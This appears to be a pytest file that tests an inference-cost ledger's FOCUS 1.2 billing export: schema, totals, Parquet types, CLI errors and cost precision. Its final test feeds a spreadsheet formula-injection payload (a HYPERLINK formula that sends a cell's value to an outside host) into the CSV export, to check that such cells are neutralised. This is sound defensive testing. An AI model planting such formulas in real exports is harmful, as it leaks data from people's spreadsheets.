"""FOCUS 1.2 export on the hand-built ledger: a schema test written from the spec (column presence, types,
nullability, allowed values, ISO 8601 UTC dates) plus totals that must equal the ledger. focus-validator
2.2.1 itself needs Python >= 3.12: scripts/focus_validate.sh runs it (result in benchmarks/results/)."""

from __future__ import annotations

import csv
import json
import re
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from margin.cli import app
from margin.errors import InvalidRequest
from margin.ledger import db, ingest
from margin.report.focus import COLUMNS, MANDATORY, export, focus_rows, parse_period
from tests.helpers import fake_settings
from tests.report import ledgers

SPEC_MANDATORY = {  # FOCUS 1.2 mandatory columns (DESIGN §4)
    "BilledCost", "BillingAccountId", "BillingAccountName", "BillingCurrency", "BillingPeriodEnd",
    "BillingPeriodStart", "ChargeCategory", "ChargeClass", "ChargeDescription", "ChargePeriodEnd",
    "ChargePeriodStart", "ContractedCost", "EffectiveCost", "InvoiceIssuerName", "ListCost", "PricingQuantity",
    "PricingUnit", "ProviderName", "PublisherName", "ServiceCategory", "ServiceName",
}  # fmt: skip
NOT_NULL = SPEC_MANDATORY - {"ChargeClass", "ChargeDescription", "PricingQuantity", "PricingUnit"}
ISO_UTC = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$")
CHARGE_CATEGORIES = {"Usage", "Purchase", "Tax", "Credit", "Adjustment"}
SERVICE_CATEGORIES = {"AI and Machine Learning"}  # the one FOCUS category that fits inference


def test_csv_follows_the_focus_schema(engine: sa.Engine, tmp_path: Path) -> None:
    out = tmp_path / "f.csv"
    result = export(engine, fake_settings(tmp_path / "x.db"), "2026-11", out)
    assert result.unpriced_requests == 1  # r4: an unknown price is never exported as 0
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    header = list(rows[0])
    assert set(header) >= SPEC_MANDATORY and len(SPEC_MANDATORY) == 21 and set(MANDATORY) == SPEC_MANDATORY
    assert {"Tags", "x_InputTokens", "x_OutputTokens", "x_EnergyJ", "x_CO2eG"} <= set(header)
    assert all(c in SPEC_MANDATORY | {"Tags"} or c.startswith("x_") or c[0].isupper() for c in header)
    for row in rows:
        assert all(row[c] != "" for c in NOT_NULL), row
        for column in ("BillingPeriodStart", "BillingPeriodEnd", "ChargePeriodStart", "ChargePeriodEnd"):
            assert ISO_UTC.match(row[column]), (column, row[column])
        assert (row["BillingPeriodStart"], row["BillingPeriodEnd"]) == ("2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z")
        assert row["ChargePeriodStart"] < row["ChargePeriodEnd"] and row["BillingCurrency"] == "USD"
        assert row["ChargeCategory"] in CHARGE_CATEGORIES and row["ServiceCategory"] in SERVICE_CATEGORIES
        assert row["BilledCost"] == row["EffectiveCost"] == row["ListCost"] == row["ContractedCost"]
        assert Decimal(row["PricingQuantity"]) == int(row["x_InputTokens"]) + int(row["x_OutputTokens"])
        assert isinstance(json.loads(row["Tags"]), dict)
    assert sum(Decimal(r["BilledCost"]) for r in rows) == Decimal("0.007")  # r4 (unknown price) left out
    assert sum(int(r["x_Requests"]) for r in rows) == 6
    eu = [r for r in rows if r["RegionId"] == "eu"]
    assert len(eu) == 1 and float(eu[0]["x_EnergyJ"]) == 3_600_000.0 and float(eu[0]["x_CO2eG"]) == 56.0
    assert eu[0]["ProviderName"] == "self-hosted (fake)"
    assert json.loads(eu[0]["Tags"]) == {"team": "search-team"}  # the default grain: key × team × model × …


def test_tags_split_charges_and_rollup_equals_rows(engine: sa.Engine, tmp_path: Path) -> None:
    settings = fake_settings(tmp_path / "x.db")
    by_tags = focus_rows(engine, settings, "2026-11", tags=("feature", "customer"))
    eu = [r for r in by_tags.rows if r["RegionId"] == "eu"]
    assert eu[0]["Tags"] == {"customer": "globex", "feature": "search", "team": "search-team"}
    assert len(by_tags.rows) == 5 and sum(r["BilledCost"] for r in by_tags.rows) == Decimal("0.007")
    default = focus_rows(engine, settings, "2026-11")
    assert default.rows == focus_rows(engine, settings, "2026-11", rollup=False).rows  # ledger_charges = rows
    assert (default.count, sum(r["x_Requests"] for r in default.rows)) == (3, 6)  # per day, model, backend
    with pytest.raises(InvalidRequest):
        focus_rows(engine, settings, "2026-11", tags=("task_id",))


def test_parquet_types(engine: sa.Engine, tmp_path: Path) -> None:
    out = tmp_path / "f.parquet"
    export(engine, fake_settings(tmp_path / "x.db"), "2026-11", out)
    table = pq.read_table(out)
    assert table.column_names == list(COLUMNS)
    schema = table.schema
    for column in ("BilledCost", "EffectiveCost", "ListCost", "ContractedCost", "PricingQuantity"):
        assert pa.types.is_decimal(schema.field(column).type), column
    for column in ("ChargePeriodStart", "BillingPeriodEnd"):
        stamp = schema.field(column).type
        assert pa.types.is_timestamp(stamp) and stamp.tz == "UTC"
    assert sum(table.column("BilledCost").to_pylist()) == Decimal("0.007")
    assert table.column("ChargeClass").null_count == table.num_rows


def test_period_and_cli(engine: sa.Engine, tmp_path: Path) -> None:
    assert parse_period("2026-12")[1].year == 2027
    with pytest.raises(InvalidRequest):
        parse_period("November")
    assert focus_rows(engine, fake_settings(tmp_path / "x.db"), "2026-10").rows == []
    db_file = str(engine.url.database)
    out = tmp_path / "cli.csv"
    result = CliRunner().invoke(app, ["export", "focus", "--period", "2026-11", "--out", str(out), "--db", db_file])
    said = " ".join(result.output.split())
    assert result.exit_code == 0 and "wrote 3 FOCUS rows" in said and "1 requests at an unknown price" in said
    bad = CliRunner().invoke(app, ["export", "focus", "--period", "2026-11", "--out", "x.xlsx", "--db", db_file])
    assert bad.exit_code == 2
    for account in ("", "  "):  # BillingAccountId/Name cannot be null, and an empty CSV cell is null
        args = ["export", "focus", "--period", "2026-11", "--out", str(out), "--db", db_file, "--account", account]
        blank = CliRunner().invoke(app, args)
        assert blank.exit_code == 2 and "--account" in blank.output, blank.output


def test_a_tag_key_named_twice_splits_once(engine: sa.Engine, tmp_path: Path) -> None:
    """`--tags feature,feature` was a traceback (a duplicate column: "Encountered duplicate field name")."""
    base = ["export", "focus", "--period", "2026-11", "--db", str(engine.url.database)]
    once, twice = tmp_path / "once.csv", tmp_path / "twice.csv"
    assert CliRunner().invoke(app, [*base, "--out", str(once), "--tags", "feature,customer"]).exit_code == 0
    result = CliRunner().invoke(app, [*base, "--out", str(twice), "--tags", "feature,customer,feature"])
    assert result.exit_code == 0 and result.exception is None, result.output
    assert twice.read_text() == once.read_text()


def test_the_last_month_a_date_holds_is_one_error_line(engine: sa.Engine, tmp_path: Path) -> None:
    args = [
        "export",
        "focus",
        "--period",
        "9999-12",
        "--out",
        str(tmp_path / "f.csv"),
        "--db",
        str(engine.url.database),
    ]
    result = CliRunner().invoke(app, args)  # it ends in year 10000: an OverflowError traceback
    assert result.exit_code == 2 and "outside the dates" in result.output, result.output


@pytest.mark.parametrize("nano", [-5_000, -1, -2_500_000_001, 1, 9_000_000_000_000_000_000])
def test_csv_and_parquet_write_the_same_cost_to_the_nano_usd(engine: sa.Engine, tmp_path: Path, nano: int) -> None:
    """A day's cost at any sign and size: the CSV's decimal string is the Parquet's Decimal (a negative sum, a
    credit row a shared ledger holds, was printed floor-divided: -5,000 nano-USD as -1.999995000)."""
    ledgers.load(engine, [ledgers.row("only", cost_nanousd=nano, input_tokens=3, output_tokens=2)], outcomes=False)
    settings = fake_settings(tmp_path / "x.db")
    export(engine, settings, "2026-11", tmp_path / "f.csv")
    export(engine, settings, "2026-11", tmp_path / "f.parquet")
    with (tmp_path / "f.csv").open(newline="") as handle:
        (written,) = list(csv.DictReader(handle))
    expected = Decimal(nano).scaleb(-9)
    assert all(Decimal(written[c]) == expected for c in ("BilledCost", "EffectiveCost", "ListCost", "ContractedCost"))
    assert pq.read_table(tmp_path / "f.parquet").column("BilledCost").to_pylist() == [expected]


def test_a_cache_hit_is_margins_own_charge(tmp_path: Path) -> None:
    """A cache hit calls no backend: margin provided the answer, so ProviderName and InvoiceIssuerName are
    `margin` (they were "unknown"), in CSV and Parquet; PublisherName stays the model's, a backend's charge its
    provider's."""
    url = f"sqlite:///{tmp_path / 'h.db'}"
    db.upgrade(url)
    engine = db.make_sync_engine(url)
    rows = [
        ledgers.row("sent", input_tokens=10, output_tokens=5, cost_nanousd=ledgers.MILLI),
        ledgers.row("hit", kind="cache_hit", backend=None, cache="exact", saved_nanousd=ledgers.MILLI,
                    input_tokens=10, output_tokens=5),
    ]  # fmt: skip
    with engine.begin() as connection:
        ingest.ingest_batch(connection, [ledgers.complete(r) for r in rows])
    settings = fake_settings(tmp_path / "x.db")
    try:
        for suffix in (".csv", ".parquet"):
            out = tmp_path / f"h{suffix}"
            export(engine, settings, "2026-11", out)
            if suffix == ".csv":
                with out.open(newline="") as handle:
                    found = list(csv.DictReader(handle))
            else:
                found = pq.read_table(out).to_pylist()
            by_cost = {Decimal(str(r["BilledCost"])): r for r in found}
            hit, sent = by_cost[Decimal(0)], by_cost[Decimal("0.001")]
            assert (hit["ProviderName"], hit["InvoiceIssuerName"]) == ("margin", "margin"), suffix
            assert hit["PublisherName"] == sent["PublisherName"]
            assert sent["ProviderName"] == sent["InvoiceIssuerName"] == "api"
    finally:
        engine.dispose()


def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(engine: sa.Engine, tmp_path: Path) -> None:
    """Team, key, model, region and tier cells were made text (`'=…`) but the billing account (`--account`, which
    a script may fill from a customer's name) and the provider (a backend the config no longer names is shown by
    its name as the ledger holds it) were written as given: `=HYPERLINK(…)` ran when the file was opened."""
    hostile = '=HYPERLINK("https://x/?"&A1)'
    with engine.begin() as connection:
        extra = ledgers.row("x1", team="+cmd", backend="@gone", key_id="-2+3", tags={"feature": "-2+3"}, cost_nanousd=5)
        ingest.ingest_batch(connection, [extra])
    out = tmp_path / "f.csv"
    args = ["export", "focus", "--period", "2026-11", "--out", str(out), "--db", str(engine.url.database)]
    result = CliRunner().invoke(app, [*args, "--account", hostile, "--tags", "feature"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.read_text().splitlines()))[1:]
    cells = [cell for row in rows for cell in row]
    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and not number.fullmatch(cell)]
    assert formulas == [], formulas
    assert "'" + hostile in cells and "'@gone" in cells and "'+cmd" in cells
